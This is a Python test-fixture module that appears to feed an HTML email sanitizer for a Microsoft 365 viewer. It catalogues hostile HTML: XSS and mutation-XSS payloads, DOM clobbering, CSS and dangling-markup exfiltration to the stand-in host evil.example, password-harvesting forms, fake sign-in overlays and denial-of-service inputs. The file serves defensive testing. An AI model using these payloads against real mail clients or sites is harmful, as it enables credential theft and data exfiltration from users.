"""Letters of people who mean harm: name -> HTML. What one asks for lies at ``EVIL``; whatever runs says so there.

Each is a way in that worked somewhere once. None may run a script, ask anybody for anything or leave its frame.
"""

from __future__ import annotations

EVIL = "https://evil.example"
_RUN = f"(new Image).src='{EVIL}/ran';alert('ran')"
_SCRIPT = f"<script>{_RUN}</script>"
_ENCODED = "".join(f"&#{ord(letter)};" for letter in _RUN)

SCRIPTS = {
    "script": _SCRIPT,
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script><SCRIPT/SRC="{EVIL}/y.js"></SCRIPT>',
    "script in pieces": f"<scr<script>ipt>{_RUN}</scr</script>ipt><<script>{_RUN}//<</script>",
    "script as a module": f'<script type="module">{_RUN}</script><link rel="modulepreload" href="{EVIL}/m.js">',
    "event handlers": f'<img src=x onerror="{_RUN}"><body onload="{_RUN}"><p onmouseover="{_RUN}" onfocus="{_RUN}" '
    f'tabindex=0 autofocus>x</p><details open ontoggle="{_RUN}">x</details><marquee onstart="{_RUN}">x</marquee>',
    "handlers without spaces": f'<img/src="x"/onerror="{_RUN}"><svg/onload="{_RUN}"><img src=x\tonerror\n=\r"{_RUN}">',
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script><animate onbegin="{_RUN}" attributeName=x dur=1s>'
    f'<set attributeName=href to="javascript:{_RUN}"/><foreignObject>{_SCRIPT}</foreignObject>'
    f'<image href="{EVIL}/i.png"/><use href="{EVIL}/u.svg#x"/></svg>',
    "svg in a data address": '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmci'
    f'IG9ubG9hZD0iYWxlcnQoMSkiLz4="><embed src="data:image/svg+xml,<svg onload={_RUN}>">',
    "javascript addresses": "".join(
        f'<a href="{scheme}{_RUN}">x</a>'
        for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java&#10;script:", "vbscript:")
    )
    + f'<a href="&#106;avascript:{_ENCODED}">x</a><iframe src="javascript:{_RUN}"></iframe>',
    "data addresses": f'<a href="data:text/html,{_SCRIPT}">x</a><iframe src="data:text/html,{_SCRIPT}"></iframe>'
    f'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "other addresses": '<a href="blob:x">x</a><a href="file:///etc/passwd">x</a><a href="ms-msdt:/id PCWDiagnostic">x'
    '</a><a href="search-ms:query=x">x</a><img src="filesystem:x"><img src="about:blank">',
    "frames": f'<iframe src="{EVIL}/f"></iframe><iframe srcdoc="{_SCRIPT}"></iframe><frameset><frame src="{EVIL}/g">'
    f'</frameset><object data="{EVIL}/o"></object><embed src="{EVIL}/e"><applet code="{EVIL}/a"></applet>'
    f'<portal src="{EVIL}/p"></portal><fencedframe src="{EVIL}/ff"></fencedframe>',
    "mutation through style": f"<svg></p><style><a id=\"</style><img src=1 onerror='{_RUN}'>\">",
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "mutation through noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "mutation through templates": f'<template><s><template><s><img src=x onerror="{_RUN}">@</s></template></template>'
    f'<div><template shadowrootmode="open">{_SCRIPT}<slot></slot></template></div>',
    "mutation through text areas": f'<textarea></textarea><svg><textarea><img src=x onerror="{_RUN}"></textarea></svg>'
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>"></xmp><title><img src="</title><svg onload={_RUN}>"></title>',
    "comments that end early": f"<!--><img src=x onerror={_RUN}>--><!---><svg onload={_RUN}>--><!--!><script>{_RUN}"
    f"</script>--><![CDATA[<img src=x onerror={_RUN}>]]><?xml <img src=x onerror={_RUN}>?>",
    "our own disguise": f'<x-b onclick="{_RUN}">x</x-b><x-script>{_RUN}</x-script><x-x-b></x-x-b><b->'
    f'<x-svg onload="{_RUN}">',
    "clobbering": '<form id="document"><input name="cookie"><input name="body"></form><img name="getElementById">'
    '<a id="location" href="x"></a><iframe name="top"></iframe>',
}

REQUESTS = {
    "tracking pixels": f'<img src="{EVIL}/1.gif" width=1 height=1>'
    '<img src="http://evil.example/2.gif" style="display:none">'
    '<img src="//evil.example/3.gif"><img src="\\\\evil.example/4.gif"><img src="/\\evil.example/5.gif">',
    "images by other names": f'<img srcset="{EVIL}/a.png 2x" lowsrc="{EVIL}/b" dynsrc="{EVIL}/c"><image src="{EVIL}/d">'
    f'<picture><source srcset="{EVIL}/e"><img></picture><input type=image src="{EVIL}/f">',
    "backgrounds": f'<body background="{EVIL}/a"><table background="{EVIL}/b"><tr background="{EVIL}/c">'
    f'<td background="{EVIL}/d">x</td></tr></table><p style="background:url({EVIL}/e)">x</p>'
    f'<p style="background-image:url(&quot;{EVIL}/f&quot;)">x</p>',
    "media": f'<video src="{EVIL}/a" poster="{EVIL}/b" autoplay></video><audio src="{EVIL}/c" autoplay></audio>'
    f'<video><source src="{EVIL}/d"><track src="{EVIL}/e" default></video><bgsound src="{EVIL}/f">',
    "links that load": "".join(
        f'<link rel="{rel}" href="{EVIL}/{rel}" as="image">'
        for rel in ("stylesheet", "prefetch", "preload", "preconnect", "dns-prefetch", "icon", "manifest", "prerender")
    ),
    "links that tell": f'<a href="https://a.example" ping="{EVIL}/ping" attributionsrc="{EVIL}/attribution">x</a>',
    "style sheets": f'<style>@import "{EVIL}/a";@import url({EVIL}/b);@font-face{{font-family:x;src:url({EVIL}/c)}}'
    f"*{{font-family:x;background:url({EVIL}/d)}}p::after{{content:url({EVIL}/e)}}</style><p>x</p>",
    "attribute selectors": "<style>"
    + "".join(f'[href*="key={letter}"],img[src*="{letter}"]{{background:url({EVIL}/{letter})}}' for letter in "abcdef")
    + "</style><img src='cid:logo@1'>",
    "style sheets in svg": f'<svg><style>@import "{EVIL}/a";*{{fill:url({EVIL}/b#x)}}</style><rect/></svg>',
    "styles in disguise": f'<p style="background:u\\72l({EVIL}/a)">x</p>'
    f'<p style="b\\61 ckground-image:url({EVIL}/b)">x</p>'
    f'<p style="background:/**/url(/**/{EVIL}/c)">x</p><p style="background:image-set(\'{EVIL}/d\' 1x)">x</p>'
    f'<p style="cursor:url({EVIL}/e),auto;list-style:url({EVIL}/f);filter:url({EVIL}/g#x)">x</p>',
    "styles that compute": f'<p style="width:expression({_RUN});behavior:url({EVIL}/a)">x</p>'
    f'<p style="-moz-binding:url({EVIL}/b#x)">x</p>'
    f'<p style="--x:url({EVIL}/c);background:var(--x)">x</p>',
    "forms": f'<form action="{EVIL}/login" method=post id=f><input name=password><button>Sign in</button></form>'
    f'<button form=f formaction="{EVIL}/b">x</button><isindex action="{EVIL}/c">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/a"><META HTTP-EQUIV=Refresh CONTENT="0; {EVIL}/b">',
    "policies of its own": f'<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {EVIL}/r">'
    f'<meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="{EVIL}/a.png">',
    "another base": f'<base href="{EVIL}/"><img src="a.png"><a href="b">x</a><link rel=stylesheet href="c.css">',
    "dangling markup": f"<p>x</p><img src='{EVIL}/?steal=",
    "dangling styles": f"<p>x</p><style>@import '{EVIL}/?steal=",
    "images of other people's mail": '<img src="cid:secret@1"><img src="cid:../../2/inline/secret@1">'
    '<img src="cid:%2e%2e/%2e%2e/2/inline/secret@1"><img src="cid:?key=x"><img src="cid:#"><img src="cid:">'
    '<img src="cid://evil.example/x"><img src="cid:\\\\evil.example\\x">',
    "places of ours": '<img src="/ms365/settings"><img src="../2/inline/secret@1"><img src="body?images=1">'
    '<a href="/ms365/settings/reset">x</a><img src="http://localhost/ms365/messages/2/body">',
}

SIGHTS = {
    "over everything": '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in again: '
    f'<a href="{EVIL}/login">here</a></div><div style="margin:-9999px;width:99999px;height:99999px">x</div>'
    '<dialog open style="position:fixed">x</dialog><p popover>x</p>',
    "the end of the document": f"</p></div></body></html></iframe></template>{_SCRIPT}<h1>Microsoft 365</h1>",
    "a title of its own": "<title>Sign in to your account</title><p>x</p>",
    "unicode": f"\u202e\u2066<script>\u2069\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e<\u017fcript>{_RUN}</\u017fcript>"
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-\ufeff\u0000<\u0000script>{_RUN}</script><p>\u200b\u200d\ufffd</p>"
    + "Z\u0335"
    * 500,
    "broken entities": "&lt;script&gt;&#60;script&#62;&#x3c;script&#X3E;&lt&#0;&#xD800;&#x110000;&;&amp;lt;"
    f"<a href='&#x6A;ava&Tab;script&colon;{_RUN}'>x</a>",
    "frames of a hundred thousand": "<div>" * 100_000 + "x",
    "tables of a hundred thousand": "<table><tr><td>" * 100_000 + "x",
    "formatting that multiplies": "<p>"
    + "".join(f"<font color={n}>" for n in range(3000))
    + "</p>"
    + "<p>x</p>" * 3000,
    "a huge letter": "<p>" + "x" * 3_000_000 + "</p>" + "<p>y</p>" * 5000,
    "a huge address": f'<a href="https://a.example/{"x" * 500_000}">x</a><img src="{EVIL}/{"x" * 500_000}">',
}

LETTERS = SCRIPTS | REQUESTS | SIGHTS
